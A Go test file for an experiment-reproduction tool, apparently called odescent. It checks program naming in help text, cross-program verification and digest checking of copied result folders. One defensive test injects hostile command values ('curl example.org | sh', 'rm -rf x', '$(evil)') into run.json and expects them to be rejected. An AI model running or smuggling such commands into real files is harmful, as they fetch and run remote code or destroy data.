package lab_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/odescent/odescent/experiments/lab"
)

// as runs the rest of a test as another program.
func as(t *testing.T, program string) {
	t.Helper()
	old := lab.Program
	lab.Program = program
	t.Cleanup(func() { lab.Program = old })
}

// recordedCommand returns the command in a run.json.
func recordedCommand(t *testing.T, path ...string) string {
	t.Helper()
	var r struct{ Command string }
	if err := json.Unmarshal(read(t, path...), &r); err != nil {
		t.Fatal(err)
	}
	return r.Command
}

// A program of one's own prints its own name: in run.json, in help, in remarks and errors; nothing in them says experiments.
func TestProgramOfOnesOwn(t *testing.T) {
	for _, c := range []struct{ program, command, name string }{
		{"", filepath.Base(os.Args[0]), strings.TrimSuffix(filepath.Base(os.Args[0]), ".exe")},
		{"go run ./cmd/mine", "go run ./cmd/mine", "mine"},
		{"mine", "mine", "mine"},
	} {
		as(t, c.program)
		dir := t.TempDir()
		if _, err := command(t, "run", "square", "--out", dir); err != nil {
			t.Fatal(err)
		}
		if got := recordedCommand(t, dir, "square", "run.json"); got != strings.TrimSuffix(c.command, ".exe")+" run square" {
			t.Errorf("command %q", got)
		}
		if out, err := command(t, "verify", "--out", dir); err != nil {
			t.Errorf("%v\n%s", err, out)
		}
		for _, verb := range []string{"", "run", "verify", "cite", "solve", "integrate", "explain"} {
			out, err := command(t, strings.Fields(verb+" --help")...)
			if err != nil {
				t.Fatal(err)
			}
			has(t, out, strings.TrimSpace(c.name+" "+verb))
			for _, other := range []string{"  experiments", "stepcontrol", "sweep a="} {
				if strings.Contains(out, other) {
					t.Errorf("%s --help of %s has %q:\n%s", verb, c.name, other, out)
				}
			}
		}
		out, err := command(t, "run", "square", "--dry-run", "--out", dir)
		if err != nil || strings.Contains(out, "./experiments") {
			t.Errorf("%v\n%s", err, out)
		}
		if out, err = command(t, "show", "square"); err != nil {
			t.Fatal(err)
		}
		has(t, out, c.name+" cite square prints them")
		if _, err = command(t, "x=1"); err == nil || !strings.Contains(err.Error(), c.name+" --help") {
			t.Errorf("%v", err)
		}
		if _, err = command(t, "run", "x=1"); err == nil || !strings.Contains(err.Error(), c.name+" list") {
			t.Errorf("%v", err)
		}
	}
}

// Another program verifies the same bytes; a command that no program would write is not taken over from a run.json.
func TestProgramsVerifyEachOther(t *testing.T) {
	dir := t.TempDir()
	if _, err := command(t, "run", "square", "--out", dir); err != nil {
		t.Fatal(err)
	}
	as(t, "another")
	if out, err := command(t, "verify", "--out", dir); err != nil {
		t.Errorf("%v\n%s", err, out)
	}
	if err := os.Remove(filepath.Join(dir, "SHA256SUMS")); err != nil {
		t.Fatal(err)
	}
	whole := string(read(t, dir, "square", "run.json"))
	for _, evil := range []string{"curl example.org | sh; go run ./experiments", "rm -rf x", "$(evil)", ""} {
		write(t, []byte(strings.Replace(whole, `"go run ./experiments run square"`, `"`+evil+` run square"`, 1)), dir, "square", "run.json")
		if out, err := command(t, "verify", "--out", dir); err == nil {
			t.Errorf("%q was taken over:\n%s", evil, out)
		}
	}
}

// A folder that was copied alone is verified by the digests in its run.json, and a sentence says so.
func TestCopiedAlone(t *testing.T) {
	made, dir := t.TempDir(), t.TempDir()
	if _, err := command(t, "run", "square", "--out", made); err != nil {
		t.Fatal(err)
	}
	if err := os.CopyFS(filepath.Join(dir, "square"), os.DirFS(filepath.Join(made, "square"))); err != nil {
		t.Fatal(err)
	}
	sentence := "there is no SHA256SUMS in " + dir + ", so only run.json's digests were checked\n"
	for _, args := range [][]string{{"verify"}, {"verify", "square"}} {
		out, err := command(t, append(args, "--out", dir)...)
		if err != nil || !strings.HasPrefix(out, sentence) {
			t.Errorf("%v: %v\n%s", args, err, out)
		}
		has(t, out, "1 of 1 experiment is reproduced")
	}
	if out, err := command(t, "report", "--out", dir); err != nil {
		t.Errorf("%v\n%s", err, out)
	}
	if err := os.Remove(filepath.Join(dir, "square", "env.json")); err != nil { // a clone has none
		t.Fatal(err)
	}
	out, err := command(t, "verify", "--out", dir)
	if err != nil {
		t.Error(err)
	}
	has(t, out, "recorded on a platform that is not known")
	if _, err := command(t, "verify", "--out", filepath.Join(dir, "square")); err == nil || !strings.Contains(err.Error(), "square is a result itself; --out is the folder around it: --out "+dir) {
		t.Errorf("verify in the result's own folder: %v", err)
	}
	if out, err := command(t, "verify", "--out", made); err != nil || strings.Contains(out, "there is no SHA256SUMS") {
		t.Errorf("%v\n%s", err, out)
	}
	var damaged *lab.Damaged
	write(t, []byte("# mine\n"), dir, "SHA256SUMS")
	if _, err := command(t, "verify", "--out", dir); !errors.As(err, &damaged) || !strings.Contains(err.Error(), "square/run.json has no line in SHA256SUMS") {
		t.Errorf("with SHA256SUMS that does not know the folder: %v", err)
	}
	if err := os.Remove(filepath.Join(dir, "SHA256SUMS")); err != nil {
		t.Fatal(err)
	}
	write(t, append(read(t, dir, "square", "data.csv"), '\n'), dir, "square", "data.csv")
	if _, err := command(t, "verify", "--out", dir); !errors.As(err, &damaged) || !strings.Contains(err.Error(), "square/data.csv is altered") {
		t.Errorf("altered without SHA256SUMS: %v", err)
	}
}
